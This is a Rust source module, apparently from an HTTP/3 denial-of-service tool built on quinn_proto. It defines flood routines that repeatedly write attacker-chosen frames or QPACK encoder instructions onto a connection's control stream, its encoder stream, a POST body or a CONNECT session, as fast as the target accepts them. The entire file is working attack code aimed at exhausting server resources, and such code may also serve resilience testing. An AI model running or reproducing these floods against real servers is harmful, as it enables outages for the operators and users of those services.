//! Floods: the same bytes over and over on one stream of each connection, as fast as it takes
//! them. `ops` says how many operations the bytes are, once.

use quinn_proto::StreamId;

use crate::attacker::Attacker;
use crate::wire;

/// Frames on the control stream.
pub fn control(a: &mut Attacker, frames: &[u8], ops: u64) {
    a.storm(|conn, (): &mut ()| conn.fill(conn.critical().control, frames, ops));
}

/// Instructions on the QPACK encoder stream, after those of `first`.
pub fn encoder(a: &mut Attacker, first: &[u8], instructions: &[u8], ops: u64) {
    a.storm(|conn, begun: &mut bool| {
        let encoder = conn.critical().encoder;
        if !std::mem::replace(begun, true) {
            conn.write(encoder, first);
        }
        conn.fill(encoder, instructions, ops);
    });
}

/// Frames on a POST whose content is read.
pub fn post(a: &mut Attacker, frames: &[u8], ops: u64) {
    let post = wire::post(a.kind.sink());
    a.storm(|conn, body: &mut Option<StreamId>| {
        if body.is_none() {
            *body = conn.request(&post);
        }
        if let Some(id) = *body {
            conn.fill(id, frames, ops);
        }
    });
}

/// Frames on the CONNECT stream of a session that takes everything.
pub fn session(a: &mut Attacker, frames: &[u8], ops: u64) {
    let path = a.kind.open_session();
    a.storm(|conn, held: &mut Option<StreamId>| {
        if let Some(session) = conn.session(held, path) {
            conn.fill(session, frames, ops);
        }
    });
}
